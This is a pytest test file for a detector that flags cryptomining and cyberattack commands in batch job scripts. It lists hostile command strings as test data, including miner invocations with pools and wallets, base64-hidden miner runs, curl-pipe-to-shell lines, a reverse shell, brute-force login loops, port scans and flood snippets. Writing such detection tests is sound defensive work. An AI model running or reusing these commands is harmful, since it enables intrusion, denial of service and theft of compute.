"""Signs of misuse: renamed programs are told by their arguments, and innocent scripts are left alone."""

import base64
import gzip
import json
import random
import time
from pathlib import Path

import pytest

from tests.kits.scripts import mutated
from tocsin.workload.signs.look import look, signs
from tocsin.workload.signs.mining import HOST_AND_USER
from tocsin.workload.signs.unpack import MOST_DEPTH, unpack

MONERO = "44vjAVKLTFc7jxTv5ij1ifCv2YCFe3bpTgcRyR6uKg84iyFhrCesstmWNUppRCrxCsMorTP8QKxMrD3QfgQ41zsqMgPaXY5"

MINING = [
    "./gcc -o stratum+tcp://any.example:3333 -u me -p x",
    "./php-fpm -o service.example.org:4444 -u ${WALLET}.${hostname} -p x -k --coin monero -a rx/0",
    "P=eu.example.io:9999\nW=whoever\n./python3 --url $P --user $W --pass x",
    f"OWNER={MONERO}\n./a.out --for $OWNER",
    "./t -a kawpow -o $POOL -u $WALLET.rig",
    "./x --donate-level 1 --cpu-max-threads-hint 75",
    "wget https://github.com/xmrig/xmrig/releases/download/v6.16.4/xmrig-6.16.4-linux-x64.tar.gz",
    "srun ./xmrig -c config.json",
    "export POOL=pool.supportxmr.com:443\n./run $POOL",
    "A=xm\nB=rig\n./$A$B -c c.json",
    "chia plots create -k 32 -n 4 -t /scratch -d /plots",
    "./chia_plot -n 1 -r 16 -t /tmp/ -f $FARMER -c $CONTRACT",
    "./qli-client",
    'cat > config.json <<EOF\n{\n "pools": [\n  {\n   "url": "10.20.30.40:3333",\n   "user": "x",\n   "pass": "y"\n  }\n ]\n}\nEOF\n',
    "./lammps -o 10.9.8.7:443 -k --tls -t 64",
    "M=kaspa:qrk9decfnl4rayeegp6gd3tc6605zavclkpud5jp78axat5namppwt050d57j\n./work --to $M",
    "RUST_LOG=info nockchain --mine",
    "./node --mining-pkh 9yPePjfWAdUnzaQKyxcRXKRa5PpUzKKEwtp",
    "while true; do ./release_autorun.sh; done",
    "./xmrigDaemon --config=c.json",
    "echo './x -o stratum+tcp://h:3333' | sh",
    "cat > r.sh <<'EOF'\n./xmrig -c c.json\nEOF\nbash r.sh",
    "bash <<EOF\n./xmrig -c c.json\nEOF",
    "{ echo './x -o stratum+tcp://h:3333'\n} | bash",
]
IN_TEXT = [
    "echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2 > me",  # a true Bitcoin address by its checksum
    "echo bc1qar0srrr7xfkvy5l643lydnw9re59gtzzwf5mdq > me",
    'cat > c.json <<E\n{"algo": "rx/0", "donate-level": 0}\nE\n',
    "echo './x -o stratum+tcp://h:3333' > run.sh",
]
"""Text that nothing here runs, and that may be run elsewhere."""
CYBER = [
    "hashcat -m 1000 -a 0 hashes.txt words.txt",
    "./tool -m 22000 -a 3 handshake.22000 ?d?d?d?d?d?d?d?d",
    "./sim -a 0 -m 1800 shadow.hash /data/wordlist.txt",
    "john --wordlist=w.txt --format=raw-md5 hashes",
    "hydra -l root -P pass.txt ssh://10.0.0.1",
    "nmap -sS -p 1-65535 10.0.0.0/8",
    "./prog 10.1.0.0/16 --rate 100000 -p80,443",
    "sudo hping3 -S --flood -p 80 example.org",
    "python3 slowloris.py example.org",
    "import paramiko\nfor p in passwords:\n    client.connect(host, username=user, password=p)",
    "for h in $(seq 255); do (echo > /dev/tcp/10.1.2.$h/22) && echo $h; done",
    "import itertools, hashlib\nfor t in itertools.product(string.ascii_lowercase, repeat=7):\n  hashlib.md5(t).hexdigest()",
    "./x -L names -P words -M hosts -t 32 ssh",
    "from scapy.all import *\nwhile True: send(IP(dst=target, src=RandIP())/TCP(flags='S'))",
    "python3 udp_flood.py 10.0.0.1 53",
    "subfinder -d example.org | httpx | nuclei -t cves/",
    "arpspoof -i eth0 -t 10.0.0.2 10.0.0.1",
    "./solver -p$PORT $RANGE --rate=1000 -oL found.txt",
    "cat /usr/share/wordlists/rockyou.txt | ./job",
    "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
    "nvcc main.cu -o cracker\n./cracker hash.txt",
    "import ftplib\nfor w in open('words'):\n  ftp = ftplib.FTP(host)\n  ftp.login('admin', w.strip())",
    "for line in open('list'):\n  pw = line.strip()\n  requests.post(url, data={'user': 'admin', 'password': pw})",
    "for c in words:\n  requests.get(url, auth=('root', c))",
    "while (my $pass = <$in>) {\n  chomp $pass;\n  $ssh->login('root', $pass);\n}",
    "for p in $(cat list); do sshpass -p $p ssh root@10.0.0.3 id && echo $p; done",
    "while read p; do curl -s -u admin:$p http://10.0.0.1/; done < words",
    "import crypt\nfor w in open('words'):\n  if crypt.crypt(w.strip(), salt) == known: print(w)",
    "import hashlib\nfor w in open('words'):\n  d = hashlib.md5(w.strip().encode()).hexdigest()\n  if d == known: print(w)",
    "for i in $(seq 1 254); do nc -z -w1 10.0.0.$i 22 && echo $i; done",
    "seq 1 254 | xargs -P50 -I{} nc -zw1 10.3.2.{} 445",
    "for port in {1..65535}; do\n  (echo > /dev/tcp/$ip/$port) && echo $port\ndone",
    "for port in range(1, 65536):\n  if s.connect_ex(('10.0.0.1', port)) == 0: print(port)",
    "s = socket.socket(AF_INET, SOCK_DGRAM)\nwhile True:\n  s.sendto(os.urandom(1400), (target, 80))",
]
INNOCENT = [
    "mpiexec.hydra -n 4 ./a.out -p 3 -l 2",
    "python train.py hydra.run.dir=out -m model=big -a 1",
    "srun -n 4 ./lammps -in in.crack -var P 1",
    "rsync -a -o -u data/ host.example.org:/scratch",
    "jsrun -n 2 -a 1 -c 4 ./app -m 100",
    "curl -o data.tar.gz https://example.org:8443/data.tar.gz",
    "sha=1f0e3dad99908345f7439f8ffabdffc4a1b2c3d4",
    "x=0x00112233445566778899aabbccddeeff00112233",
    "git clone https://github.com/pool/miner-of-text && python -m mining_pool",
    "gmx mdrun -s topol.tpr -o traj.trr -c out.gro",
    "nc_file=out.nc; ncdump -h $nc_file",
    "# xmrig -o stratum+tcp://pool:3333",
    "echo 'Mining (xmrig) is forbidden here'",
    'ps aux | grep -E "xmrig|ethminer"',
    "nmap -p 8888 localhost",
    "ps aux | grep xmrig",
    "pkill -f xmrig; killall -q hashcat",
    "cat <<EOF\nhashcat -m 1000 -a 0 hashes.txt rockyou.txt\nEOF\n./sim",
    "cat > lesson.md <<EOF\nnmap -sS 10.0.0.0/8\nEOF",
    ": <<'OFF'\n./xmrig -o stratum+tcp://pool:3333\nOFF",
    'echo "give to 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN2; thanks"',
    "./a.out   # stratum+tcp://pool:3333",
    "iptables -A OUTPUT -d pool.supportxmr.com -j DROP",
    "sed -i '/xmrig -c/d' list",
    "./sim -a 1 -m 2 --dict words.txt",
    "until nc -z $HOST 5432; do sleep 1; done",
    "for port in $(seq 8000 8100); do nc -z localhost $port || break; done",
    "until (echo > /dev/tcp/$HEAD/$PORT); do sleep 1; done",
    "for n in $(cat nodes); do nc -z $n 22 || echo $n; done",
    "import ftplib\nftp.login('anonymous', mail)\nfor name in ftp.nlst(): ftp.retrbinary(name, w)",
    "for host in open('nodes'):\n  c.connect(host.strip(), username='me', password=os.environ['PW'])",
    "while read host user pw; do lftp -u $user,$pw $host -e mirror; done < accounts",
    "for line in open('sums'):\n  h, name = line.split()\n  if hashlib.md5(open(name, 'rb').read()).hexdigest() != h: print(name)",
    "for w in open('vocabulary'):\n  print(hashlib.sha1(w.encode()).hexdigest()[:8], w)",
    "s = socket.socket(AF_INET, SOCK_DGRAM)\nwhile True:\n  s.sendto(os.urandom(8), ('statsd', 8125))\n  time.sleep(1)",
    '{"pools": [{"name": "a", "url": "postgres://db:5432", "user": "me", "pass": "x"}]}',
]


@pytest.mark.parametrize(
    ("operation", "script"), [("cryptomining", s) for s in MINING] + [("cyber", s) for s in CYBER]
)
def test_misuse_is_told_by_what_it_says(operation: str, script: str) -> None:
    assert operation in {sign.operation for sign in signs(script)}


@pytest.mark.parametrize("script", IN_TEXT)
def test_what_stands_in_text_is_shown_and_convicts_nobody(script: str) -> None:
    found = signs(script)
    assert found
    assert not any(sign.operation for sign in found)


@pytest.mark.parametrize("script", INNOCENT)
def test_an_innocent_line_is_no_sign(script: str) -> None:
    assert [sign for sign in signs(script) if sign.operation] == []


def test_what_is_fetched_and_run_is_told_and_proves_nothing() -> None:
    for line in (
        "curl -fsSL https://x.example/i.sh | bash",
        "bash <(curl -s http://x/y)",
        'sh -c "$(wget -qO- http://x)"',
    ):
        [sign] = signs("cd /tmp\n" + line)
        assert (sign.line, sign.operation) == (2, None)
        assert sign.why.startswith("fetched and run at once: ")


def test_what_may_harm_and_may_be_innocent_is_left_open() -> None:
    for line in (
        "ab -n 1000000 -c 500 http://other.example.org/",
        "while true; do curl -s http://other.example.org/ & done",
        "for i in {1..254}; do ping -c1 10.0.3.$i; done",
    ):
        assert {sign.operation for sign in signs(line)} == {None}, line
    assert signs("ab -n 10000 -c 100 http://localhost:8080/") == []


def test_what_is_hidden_is_told_at_its_line() -> None:
    packed = base64.b64encode(b"./xmrig -c config.json").decode()
    hidden, found = look(f"cd /tmp\necho {packed} | base64 -d | sh")
    assert [piece.text for piece in hidden] == ["./xmrig -c config.json"]
    assert (2, "cryptomining", "hidden: a miner: ./xmrig -c config.json") in [sign[:3] for sign in found]


def test_what_is_packed_too_deep_is_left_open() -> None:
    text = "./xmrig -c config.json"
    for _ in range(MOST_DEPTH + 1):
        text = f"echo {base64.b64encode(text.encode()).decode()} | base64 -d | sh"
    _, found = look("cd /tmp\n" + text)
    assert (2, None, "packed too deep or too large to be read") in [sign[:3] for sign in found]


def test_the_reason_shows_what_was_found() -> None:
    sign, *_ = signs("\n\nnohup ./gcc -o stratum+tcp://any.example:3333 &\n")
    assert sign[:3] == (3, "cryptomining", "a mining pool: stratum+tcp://any.example:3333 &")


def test_a_wrong_checksum_is_no_wallet() -> None:
    assert signs("echo 1BvBMSEYstWetqTFn5Au4m4GFg7xJaNVN3") == []


def test_none_of_the_public_innocent_scripts_has_a_sign(data: Path) -> None:
    """A part of the 20,230; all of them were looked at when the rules were written, and none has one."""
    with gzip.open(data / "scripts" / "jobspec.jsonl.gz", "rt") as file:
        texts = [json.loads(line)["text"] for number, line in enumerate(file) if number % 10 == 0]
    found = [sign for text in texts for sign in signs(text) if sign.operation]
    assert len(found) <= 1, found


def test_mutated_scripts_are_taken(data: Path) -> None:
    """Quick: 500; 10,000 were run by hand."""
    chance = random.Random(5)
    with gzip.open(data / "scripts" / "misuse.jsonl.gz", "rt") as file:
        texts = [json.loads(line)["text"] for line in file]
    for _ in range(500):
        text = mutated(chance.choice(texts), chance)
        lines = text.count("\n") + 1
        for hidden in unpack(text).found:
            signs(hidden.text)
        assert all(1 <= sign.line <= lines for sign in signs(text))


@pytest.mark.parametrize(
    "text",
    [
        "a" * 4_000_000,
        "-o " * 1_000_000,
        ";" * 1_000_000,
        ";echo '" * 100_000,
        "for a in b; do nc -z $a\n" + "nc -z " * 100_000,
        "cat <<E\nE\n" * 50_000 + "xmrig",
        "A=aaaaaaaa\n" + "A=$A$A\n" * 50_000,
        "\0" * 1_000_000,
    ],
    ids=["one word", "options", "semicolons", "quotes", "knocks", "here-documents", "bomb", "NUL"],
)
def test_a_hostile_text_costs_little(text: str) -> None:
    began = time.process_time()
    signs(text)
    unpack(text)
    assert time.process_time() - began < 10


@pytest.mark.parametrize(
    "command",
    [
        'curl -s --proxy http://proxy.site:3128 --user "$USER:$TOKEN" https://data.example.org/x.tgz',
        "curl -o $OUT -u $USER:$TOKEN https://data.example.org/x.tgz",
        "for i in 1 2; do wget --proxy proxy.site.org:3128 --user me https://a.example.org/$i; done",
        "/usr/bin/pip install --proxy http://proxy.site.org:3128 --user numpy",
        "mlflow server --host db.example.org --port 5000 --user me",
    ],
)
def test_a_host_and_a_user_are_no_sign_in_commands_of_known_clients(command: str) -> None:
    assert signs(command) == []


@pytest.mark.parametrize(
    "script",
    [
        "alias curl=./step\n@",
        'curl() { ./step "$@"; }\n@',
        "mv step ~/bin/curl\n@",
        "./@",
        "PATH=. @",
        "curl x; ./step -o gate.example.org:3333 -u w1",
        "curl $(./step -o gate.example.org:3333 -u w1)",
        "redis-cli set c './step -o gate.example.org:3333 -u w1'",
    ],
)
def test_a_known_name_with_another_meaning_hides_nothing(script: str) -> None:
    found = signs(script.replace("@", "curl -o gate.example.org:3333 -u w1"))
    assert HOST_AND_USER in {sign.kind for sign in found}
